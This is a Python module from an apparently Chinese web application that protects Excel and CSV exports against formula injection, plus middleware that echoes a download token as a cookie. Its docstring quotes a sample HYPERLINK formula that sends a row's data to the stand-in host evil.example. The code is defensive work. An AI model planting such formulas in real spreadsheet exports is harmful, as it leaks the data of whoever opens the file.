"""Spreadsheet cells that no spreadsheet program runs as a formula (CSV / formula injection).

A text from the data (a project's name, an enterprise's address, an audit note) that starts
with =, +, -, @, a tab or a carriage return is taken as a formula by Excel and WPS when it is
written as a formula cell or as a CSV field: a project named
`=HYPERLINK("http://evil.example/?leak="&A2,"点击")` would send the row to another site when
clicked. Every export writes its cells through this module (OWASP, "CSV Injection"):

* in .xlsx such a text is a text cell (an inline string) with Excel's quote prefix set, so it
  is shown exactly as typed and stays text when someone edits the cell;
* in CSV, where a field has no type, it is prefixed with an apostrophe.

Numbers, dates and empty cells are written as they are (a negative amount is a number, not a
text starting with "-").
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    """Whether a spreadsheet program would read this value as the start of a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def guard(cell: Any) -> Any:
    """The openpyxl cell, with a formula-like text turned into plain text (in place)."""
    if formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def cell(sheet: Any, value: Any) -> Any:
    """A write-only cell of `sheet` holding `value`, never a formula."""
    return guard(WriteOnlyCell(sheet, value=value))


def row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A write-only row: each value through `cell` (cells already made are guarded as given)."""
    return [guard(v) if hasattr(v, "data_type") else cell(sheet, v) for v in values]


def put(sheet: Any, *, row: int, column: int, value: Any) -> Any:
    """Write `value` at (row, column) of an ordinary worksheet, never as a formula."""
    return guard(sheet.cell(row=row, column=column, value=value))


def csv_value(value: Any) -> Any:
    """A CSV field: a formula-like text gets a leading apostrophe, anything else is unchanged."""
    return "'" + value if formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(v) for v in values]


# --- the download token: the page knows when a download has started ------------------------------
#
# An Excel or PDF link marked ``data-download`` (static/js/zhaoshang.js) shows 正在生成… and
# ignores further clicks until the file starts: it adds ``download_token=<random>`` to the link,
# and the answer to that request, whatever view made it, sets the cookie ``download_token`` to the
# same value, which the page watches for. The middleware below takes the parameter off the
# request before any view sees it (filters, the export's audit entry and the page cache read the
# query string as it was) and echoes it on the response.

DOWNLOAD_TOKEN = "download_token"
_TOKEN_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-")


def take_download_token(request: Any) -> str | None:
    """Remove ``download_token`` from the request's query and return it (None when absent or
    not 1–40 letters, digits, ``_`` or ``-``)."""
    if DOWNLOAD_TOKEN not in request.GET:
        return None
    query = request.GET.copy()
    token = query.pop(DOWNLOAD_TOKEN)[-1]
    request.GET = query
    request.META["QUERY_STRING"] = query.urlencode()
    if not 0 < len(token) <= 40 or not set(token) <= _TOKEN_CHARS:
        return None
    return token


def echo_download_token(request: Any, response: Any, token: str) -> None:
    """Set the ``download_token`` cookie the page is waiting for (readable by its script, a
    minute long, this site only)."""
    response.set_cookie(
        DOWNLOAD_TOKEN,
        token,
        max_age=60,
        path="/",
        samesite="Lax",
        secure=request.is_secure(),
        httponly=False,
    )


class DownloadTokenMiddleware:
    """Echoes a link's ``download_token`` as a cookie on the answer (see above)."""

    def __init__(self, get_response: Any) -> None:
        self.get_response = get_response

    def __call__(self, request: Any) -> Any:
        token = take_download_token(request)
        response = self.get_response(request)
        if token:
            echo_download_token(request, response, token)
        return response
